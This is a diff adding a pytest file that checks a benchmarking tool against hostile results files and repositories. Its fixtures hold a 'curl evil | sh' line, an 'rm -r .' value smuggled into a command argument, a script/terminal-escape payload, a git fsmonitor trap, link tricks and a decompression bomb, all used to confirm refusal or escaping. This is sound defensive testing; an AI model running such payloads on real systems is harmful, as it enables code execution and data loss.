@@ -1,0 +1,186 @@
+"""Plans and results of somebody else: they run no code, write through no link, and fill no memory."""
+
+from __future__ import annotations
+
+import json
+import os
+import subprocess
+from typing import TYPE_CHECKING
+
+import pytest
+import zstandard
+
+from bench.engine.environment import commit_of
+from bench.engine.folder import ResultsFolder
+from bench.engine.record import ResultFile, as_line, read_results
+from bench.lint.repetition import reproducible
+from bench.lint.replayed import calls_of
+from bench.lint.subject import Subject
+from bench.report import drawing
+from bench.report.drawing import redraw
+from bench.report.facts import Facts
+from bench.report.figures.over_time import FIELDS
+from bench.report.markdown import reproduce
+from segmented.errors import InvalidInput
+from tests.support.bench.records import end_line, run, session_line
+from tests.support.command_line import ran
+
+if TYPE_CHECKING:
+    from pathlib import Path
+
+GIT = ("git", "-c", "user.name=a", "-c", "user.email=a@b", "-c", "init.defaultBranch=main")
+MARKUP = "\x1b]0;x\x07<script>alert(1)</script>"
+SHELL = "x`\n```\n\n```console\n$ curl evil | sh\n```\n"
+
+
+def test_a_plan_of_a_foreign_repository_runs_none_of_its_programs(tmp_path: Path) -> None:
+    plan, trap, sprung = tmp_path / "plan.toml", tmp_path / "trap", tmp_path / "sprung"
+    plan.write_text("", encoding="utf-8")
+    trap.write_text(f"#!/bin/sh\ntouch {sprung}\n")
+    trap.chmod(0o755)
+    for words in (("init", "-q"), ("add", "plan.toml"), ("commit", "-qm", "a plan")):
+        subprocess.run([*GIT, *words], cwd=tmp_path, check=True)
+    subprocess.run([*GIT, "config", "core.fsmonitor", str(trap)], cwd=tmp_path, check=True)
+    assert commit_of(plan) is None
+    assert not sprung.exists()
+    subprocess.run([*GIT, "status"], cwd=tmp_path, check=True, stdout=subprocess.DEVNULL)
+    assert sprung.exists()  # the trap is one
+
+
+def test_no_text_of_a_results_file_becomes_a_line_to_run() -> None:
+    session = session_line()
+    environment = {**session.environment, "code": {"commit": SHELL, SHELL: SHELL}, SHELL: SHELL}
+    foreign = session.model_copy(update={"environment": environment, "plan_sha256": SHELL, "sweeps": ("k; rm -r .",)})
+    written = reproduce(Facts(ResultFile(session=foreign, runs=(run(),), end=end_line(1))))
+    assert written.count("```") == 4
+    assert [line for line in written.splitlines() if line.startswith("$ ")] == [
+        "$ segmented bench granularity --sweep 'k; rm -r .' --plan plan.toml --report again",
+        "$ segmented bench compare . again",
+        "$ segmented bench report .",
+    ]
+    assert "Code: commit `-`. Plan: SHA-256 `-`, beside this file." in written
+
+
+@pytest.mark.parametrize("name", ["report.html", "REPRODUCE.md", "SHA256SUMS", "figures"])
+def test_a_report_is_not_written_through_a_link(tmp_path: Path, name: str) -> None:
+    folder, victim = tmp_path / "session", tmp_path / "victim"
+    folder.mkdir()
+    victim.write_text("precious")
+    (folder / name).symlink_to(victim)
+    with pytest.raises(InvalidInput) as refused:
+        redraw(folder, lambda *_: None)
+    sentence = f"{folder} has a link, {folder / name}: remove it, since results are not written through links"
+    assert str(refused.value) == sentence
+    assert victim.read_text() == "precious"
+    with pytest.raises(InvalidInput) as refused, ResultsFolder(folder):
+        pass
+    assert str(refused.value) == f"--report {sentence}"
+
+
+def test_a_history_that_unpacks_to_more_than_allowed_is_refused_in_the_middle(tmp_path: Path) -> None:
+    line = json.dumps(dict.fromkeys(FIELDS, 0.5)).encode() + b"\n"
+    packed = zstandard.ZstdCompressor().compress(line * 60_000)
+    (tmp_path / "history.zst").write_bytes(packed)
+    assert len(packed) < 10_000
+    kept = run().model_copy(update={"history": "history.zst"})
+    with pytest.raises(
+        InvalidInput, match=r"history\.zst, line [0-9]+: the file is larger than 1 MiB: allow more with"
+    ):
+        calls_of(tmp_path, kept, FIELDS, size_max=1)
+    calls = calls_of(tmp_path, kept, FIELDS, size_max=8)
+    assert calls is not None
+    assert len(calls["asked"]) == 60_000
+
+
+def test_the_command_passes_its_size_and_its_price_on(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    passed: dict[str, object] = {}
+
+    def redrawn(*_: object, **options: object) -> drawing.Report:
+        passed.update(options)
+        return drawing.Report(tmp_path, (), (), None, "")
+
+    monkeypatch.setattr(drawing, "redraw", redrawn)
+    assert ran("bench", "report", str(tmp_path), "--size-max", "7", url=None).returncode == 0
+    assert passed == {"history_max": 7, "core_hour": None}
+    assert ran("bench", "report", str(tmp_path), "--core-hour", "0.04", url=None).returncode == 0
+    assert passed["core_hour"] == 0.04
+
+
+def test_a_line_of_a_history_without_an_end_is_refused(tmp_path: Path) -> None:
+    (tmp_path / "history.zst").write_bytes(zstandard.ZstdCompressor().compress(bytes(50_000_000)))
+    kept = run().model_copy(update={"history": "history.zst"})
+    with pytest.raises(InvalidInput, match=r"line 1: it is longer than 65,536 bytes: is this a file of calls\?$"):
+        calls_of(tmp_path, kept, FIELDS)
+
+
+def test_a_device_is_not_read_without_end_as_results(tmp_path: Path) -> None:
+    (tmp_path / "results.jsonl").symlink_to("/dev/zero")
+    with pytest.raises(InvalidInput, match=r"results\.jsonl cannot be read: it is not a plain file$"):
+        read_results(tmp_path / "results.jsonl")
+
+
+@pytest.mark.parametrize("name", ["results.jsonl", "SHA256SUMS", "calibrations.json", "report.html", "histories"])
+def test_a_pipe_in_a_results_folder_is_refused_and_nobody_waits_for_it(tmp_path: Path, name: str) -> None:
+    os.mkfifo(tmp_path / name)
+    sentence = f"{tmp_path} has {tmp_path / name}, which is neither a plain file nor a folder: remove it"
+    with pytest.raises(InvalidInput) as refused:
+        redraw(tmp_path, lambda *_: None)
+    assert str(refused.value) == sentence
+    with pytest.raises(InvalidInput) as refused, ResultsFolder(tmp_path):
+        pass
+    assert str(refused.value) == f"--report {sentence}"
+
+
+@pytest.mark.parametrize("command", [("lint",), ("compare", "{0}"), ("granularity", "--plan")])
+def test_no_command_waits_for_a_pipe_in_place_of_a_file(tmp_path: Path, command: tuple[str, ...]) -> None:
+    pipe = tmp_path / "results.jsonl"
+    os.mkfifo(pipe)
+    done = ran("bench", *(word.format(pipe) for word in command), str(pipe), url=None)
+    assert (done.returncode, done.stderr.splitlines()[-1]) == (
+        2,
+        f"segmented: {pipe} cannot be read: it is not a plain file",
+    )
+
+
+def test_a_pipe_in_place_of_a_history_is_no_history(tmp_path: Path) -> None:
+    os.mkfifo(tmp_path / "history.zst")
+    kept = run().model_copy(update={"history": "history.zst", "history_sha256": "0" * 64})
+    assert calls_of(tmp_path, kept, FIELDS, size_max=1) is None
+    told = reproducible(Subject(ResultFile(session=session_line(), runs=(kept,), end=end_line(1)), tmp_path))
+    assert told.outcome == "broken"
+
+
+def test_a_report_and_a_session_write_through_no_hard_link(tmp_path: Path) -> None:
+    folder, victim = tmp_path / "session", tmp_path / "victim"
+    folder.mkdir()
+    victim.write_text("precious")
+    (folder / "plan.toml").hardlink_to(victim)
+    (folder / "report.html").hardlink_to(victim)
+    (folder / "results.jsonl").write_text(
+        as_line(session_line()) + as_line(run()) + as_line(end_line(1)), encoding="utf-8"
+    )
+    redraw(folder, lambda *_: None)
+    assert "<html" in (folder / "report.html").read_text(encoding="utf-8")
+    with ResultsFolder(folder) as held:
+        held.begin(session_line(), "# a plan")
+    assert (folder / "plan.toml").read_text(encoding="utf-8") == "# a plan"
+    (folder / "results.jsonl").unlink()
+    (folder / "results.jsonl").hardlink_to(victim)
+    victim.write_text(as_line(session_line()), encoding="utf-8")
+    with pytest.raises(InvalidInput, match=r"results\.jsonl has a second name elsewhere, a hard link: copy it"):
+        ResultsFolder(folder)
+    assert victim.read_text(encoding="utf-8") == as_line(session_line())
+
+
+def test_no_text_of_a_results_file_becomes_html_or_controls_a_terminal(tmp_path: Path) -> None:
+    session = session_line()
+    environment = {**session.environment, MARKUP: MARKUP, "code": {"commit": MARKUP}, "placement": MARKUP}
+    foreign = session.model_copy(update={"environment": environment, "plan_sha256": MARKUP})
+    lines = [as_line(foreign), as_line(run()), as_line(end_line(1))]
+    (tmp_path / "results.jsonl").write_text("".join(lines), encoding="utf-8")
+    redraw(tmp_path, lambda *_: None)
+    for name in ("report.html", "REPRODUCE.md"):
+        written = (tmp_path / name).read_text(encoding="utf-8")
+        assert "alert(1)" in written
+        assert "<script>alert" not in written
+        assert "\x1b" not in written
